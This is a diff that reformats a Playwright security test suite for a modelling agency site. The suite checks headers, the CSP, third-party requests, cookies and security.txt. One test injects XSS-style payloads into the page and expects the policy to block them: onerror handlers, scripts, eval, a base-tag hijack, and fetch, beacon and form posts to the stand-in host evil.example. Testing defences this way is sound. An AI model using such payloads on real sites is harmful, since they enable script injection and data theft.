@@ -19,12 +19,18 @@ const KINDS = [
 /** Only the application may use the camera. */
 function headersOf(path: string): Readonly<Record<string, string>> {
   const own = SECURITY_HEADERS['Permissions-Policy'];
-  const asks = ['/seja-amz', '/en/be-amz', '/seja-amazing-face', '/en/be-amazing-face'].includes(path);
-  return asks ? { ...SECURITY_HEADERS, 'Permissions-Policy': own.replace('camera=()', 'camera=(self)') } : SECURITY_HEADERS;
+  const asks = ['/seja-amz', '/en/be-amz', '/seja-amazing-face', '/en/be-amazing-face'].includes(
+    path,
+  );
+  return asks
+    ? { ...SECURITY_HEADERS, 'Permissions-Policy': own.replace('camera=()', 'camera=(self)') }
+    : SECURITY_HEADERS;
 }
 
 test.describe('what is answered', { tag: ['@desktop', '@en'] }, () => {
-  test('says on every page what the page may do, and keeps nothing in the browser', async ({ request }) => {
+  test('says on every page what the page may do, and keeps nothing in the browser', async ({
+    request,
+  }) => {
     for (const path of KINDS) {
       const answer = await request.get(path);
       const headers = answer.headers();
@@ -32,16 +38,23 @@ test.describe('what is answered', { tag: ['@desktop', '@en'] }, () => {
         expect([path, name, headers[name.toLowerCase()]]).toEqual([path, name, value]);
       expect([path, headers['set-cookie']]).toEqual([path, undefined]);
       const [head = ''] = (await answer.text()).split('</head>');
-      const [, policy = ''] = /<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="([^"]*)">/.exec(head) ?? [];
+      const [, policy = ''] =
+        /<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="([^"]*)">/.exec(
+          head,
+        ) ?? [];
       expect(policy, path).toMatch(/^default-src 'none'; /);
-      expect(policy, path).toMatch(/; script-src 'self' 'sha256-[^;]*; style-src 'self'(?: 'sha256-[^; ]*)*; /);
+      expect(policy, path).toMatch(
+        /; script-src 'self' 'sha256-[^;]*; style-src 'self'(?: 'sha256-[^; ]*)*; /,
+      );
       expect(policy, path).not.toMatch(/unsafe|(?:^|[ ;])(?:\*|http:|data:)(?=[ ;]).*script-src/);
       // No connections open ahead of a press.
       expect(head, path).not.toMatch(/rel="?(?:preconnect|dns-prefetch)/);
     }
   });
 
-  test('by functions has the headers of the pages, and says what may be kept', async ({ request }) => {
+  test('by functions has the headers of the pages, and says what may be kept', async ({
+    request,
+  }) => {
     for (const [method, path, status, kept] of [
       ['GET', '/api/options?language=en', 200, 'public, max-age=300'],
       ['GET', '/api/options?language=xx', 400, 'no-store'],
@@ -60,115 +73,149 @@ test.describe('what is answered', { tag: ['@desktop', '@en'] }, () => {
   });
 });
 
-test('No page loads anything from other hosts before a press', { tag: ['@desktop', '@en'] }, async ({ page, baseURL }) => {
-  // The back office's pictures and films count as the agency's own: the demo serves them from
-  // another port.
-  const isOurs = (url: string) => !/^https?:/.test(url) || url.startsWith(`${String(process.env['E2E_BACK_OFFICE_URL'])}/`);
-  const foreign: string[] = [];
-  page.on('request', (request) => {
-    if (new URL(request.url()).origin !== baseURL && !isOurs(request.url())) foreign.push(`${page.url()}: ${request.url()}`);
-  });
-  const { id } = await talentNamed(page, 'Açucena Vilar');
-  // Every kind with pictures or films, and dialogs opened by an address: the policy allows other
-  // hosts nothing else.
-  for (const path of [
-    '/',
-    '/modelos#T',
-    `/modelos/${id}#video`,
-    '/contato#fale',
-    '/favoritos#ids=1001,1002',
-    '/sobre-nos',
-    '/amazing-face',
-    '/seja-amz',
-  ]) {
-    await page.goto(path);
-    // Scrolls to the end, because some content loads on scrolling.
-    await page.evaluate(async () => {
-      for (let top = 0; top < document.body.scrollHeight; top += 600) {
-        window.scrollTo(0, top);
-        await new Promise((resolve) => setTimeout(resolve, 20));
-      }
+test(
+  'No page loads anything from other hosts before a press',
+  { tag: ['@desktop', '@en'] },
+  async ({ page, baseURL }) => {
+    // The back office's pictures and films count as the agency's own: the demo serves them from
+    // another port.
+    const isOurs = (url: string) =>
+      !/^https?:/.test(url) || url.startsWith(`${String(process.env['E2E_BACK_OFFICE_URL'])}/`);
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (new URL(request.url()).origin !== baseURL && !isOurs(request.url()))
+        foreign.push(`${page.url()}: ${request.url()}`);
     });
-    await page.waitForLoadState('networkidle');
-  }
-  expect(foreign).toEqual([]);
-  expect(await page.context().cookies()).toEqual([]);
-});
-
-test('Programs read where to report a vulnerability, and not to gather faces', { tag: ['@desktop', '@en'] }, async ({ request }) => {
-  const answer = await request.get('/.well-known/security.txt');
-  expect([answer.status(), answer.headers()['content-type']]).toEqual([200, 'text/plain; charset=utf-8']);
-  expect(await answer.text()).toMatch(/^Contact: mailto:ola@amazing\.example$[^]*^Expires: \d{4}-(?:06-30|12-31)T00:00:00Z$/m);
-  expect(await (await request.get('/robots.txt')).text()).toMatch(/^User-agent: GPTBot$[^]*^Disallow: \/$/m);
-});
-
-test('injected code does not run, load or send anything', { tag: ['@desktop', '@en'] }, async ({ page, expectedErrors }) => {
-  expectedErrors.push(/Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/);
-  const asked: string[] = [];
-  page.on('request', (request) => {
-    if (request.url().includes('evil.example')) asked.push(request.url());
-  });
-  await page.goto('/en/models');
-  const outcomes = await page.evaluate(async () => {
-    const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
-      const element = document.createElement(tag);
-      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
-      if (text !== '') element.append(text);
-      document.body.append(element);
-      return element;
-    };
-    const attempts: Readonly<Record<string, () => unknown>> = {
-      handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
-      script: () => add('script', {}, 'window.hacked = 1'),
-      foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
-      markup: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<img src=x onerror="window.hacked = 1">'),
-      // Later, because code that a test calls directly may evaluate anything.
-      code: () =>
-        new Promise<void>((resolve, reject) => {
-          setTimeout(() => {
-            try {
-              (0, eval)('window.hacked = 1');
-              resolve();
-            } catch (error) {
-              reject(error instanceof Error ? error : new Error());
-            }
-          });
-        }),
-      style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
-      sheet: () => getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id).outlineWidth,
-      frame: () => add('iframe', { src: 'https://evil.example/' }),
-      plugin: () => add('object', { data: 'https://evil.example/' }),
-      base: () => {
-        add('base', { href: 'https://evil.example/' });
-        return document.baseURI;
-      },
-      send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
-      beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
-      form: () => {
-        const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement;
-        form.submit();
-      },
-    };
-    const results: Record<string, string> = {};
-    for (const [name, attempt] of Object.entries(attempts)) {
-      try {
-        const result: unknown = await attempt();
-        results[name] = typeof result === 'string' ? result : 'silent';
-      } catch (error) {
-        results[name] = error instanceof Error ? error.name : 'error';
-      }
+    const { id } = await talentNamed(page, 'Açucena Vilar');
+    // Every kind with pictures or films, and dialogs opened by an address: the policy allows other
+    // hosts nothing else.
+    for (const path of [
+      '/',
+      '/modelos#T',
+      `/modelos/${id}#video`,
+      '/contato#fale',
+      '/favoritos#ids=1001,1002',
+      '/sobre-nos',
+      '/amazing-face',
+      '/seja-amz',
+    ]) {
+      await page.goto(path);
+      // Scrolls to the end, because some content loads on scrolling.
+      await page.evaluate(async () => {
+        for (let top = 0; top < document.body.scrollHeight; top += 600) {
+          window.scrollTo(0, top);
+          await new Promise((resolve) => setTimeout(resolve, 20));
+        }
+      });
+      await page.waitForLoadState('networkidle');
     }
-    return results;
-  });
-  expect(outcomes).toMatchObject({ markup: 'TypeError', code: expect.stringMatching(/Error$/), send: 'TypeError' });
-  expect(outcomes).toMatchObject({
-    style: 'static',
-    sheet: expect.not.stringContaining('9px'),
-    base: expect.not.stringContaining('evil'),
-  });
-  // A request after the attacks gets its answer.
-  await page.evaluate(() => fetch('/talents.json').then((answer) => answer.text()));
-  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-  expect(asked).toEqual([]);
-  expect(page.url()).toMatch(/\/en\/models$/);
-});
+    expect(foreign).toEqual([]);
+    expect(await page.context().cookies()).toEqual([]);
+  },
+);
+
+test(
+  'Programs read where to report a vulnerability, and not to gather faces',
+  { tag: ['@desktop', '@en'] },
+  async ({ request }) => {
+    const answer = await request.get('/.well-known/security.txt');
+    expect([answer.status(), answer.headers()['content-type']]).toEqual([
+      200,
+      'text/plain; charset=utf-8',
+    ]);
+    expect(await answer.text()).toMatch(
+      /^Contact: mailto:ola@amazing\.example$[^]*^Expires: \d{4}-(?:06-30|12-31)T00:00:00Z$/m,
+    );
+    expect(await (await request.get('/robots.txt')).text()).toMatch(
+      /^User-agent: GPTBot$[^]*^Disallow: \/$/m,
+    );
+  },
+);
+
+test(
+  'injected code does not run, load or send anything',
+  { tag: ['@desktop', '@en'] },
+  async ({ page, expectedErrors }) => {
+    expectedErrors.push(
+      /Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/,
+    );
+    const asked: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) asked.push(request.url());
+    });
+    await page.goto('/en/models');
+    const outcomes = await page.evaluate(async () => {
+      const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        if (text !== '') element.append(text);
+        document.body.append(element);
+        return element;
+      };
+      const attempts: Readonly<Record<string, () => unknown>> = {
+        handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
+        script: () => add('script', {}, 'window.hacked = 1'),
+        foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
+        markup: () =>
+          (document.body.appendChild(document.createElement('p')).innerHTML =
+            '<img src=x onerror="window.hacked = 1">'),
+        // Later, because code that a test calls directly may evaluate anything.
+        code: () =>
+          new Promise<void>((resolve, reject) => {
+            setTimeout(() => {
+              try {
+                (0, eval)('window.hacked = 1');
+                resolve();
+              } catch (error) {
+                reject(error instanceof Error ? error : new Error());
+              }
+            });
+          }),
+        style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
+        sheet: () =>
+          getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id)
+            .outlineWidth,
+        frame: () => add('iframe', { src: 'https://evil.example/' }),
+        plugin: () => add('object', { data: 'https://evil.example/' }),
+        base: () => {
+          add('base', { href: 'https://evil.example/' });
+          return document.baseURI;
+        },
+        send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
+        beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
+        form: () => {
+          const form = add('form', {
+            action: 'https://evil.example/',
+            method: 'post',
+          }) as HTMLFormElement;
+          form.submit();
+        },
+      };
+      const results: Record<string, string> = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          const result: unknown = await attempt();
+          results[name] = typeof result === 'string' ? result : 'silent';
+        } catch (error) {
+          results[name] = error instanceof Error ? error.name : 'error';
+        }
+      }
+      return results;
+    });
+    expect(outcomes).toMatchObject({
+      markup: 'TypeError',
+      code: expect.stringMatching(/Error$/),
+      send: 'TypeError',
+    });
+    expect(outcomes).toMatchObject({
+      style: 'static',
+      sheet: expect.not.stringContaining('9px'),
+      base: expect.not.stringContaining('evil'),
+    });
+    // A request after the attacks gets its answer.
+    await page.evaluate(() => fetch('/talents.json').then((answer) => answer.text()));
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(asked).toEqual([]);
+    expect(page.url()).toMatch(/\/en\/models$/);
+  },
+);
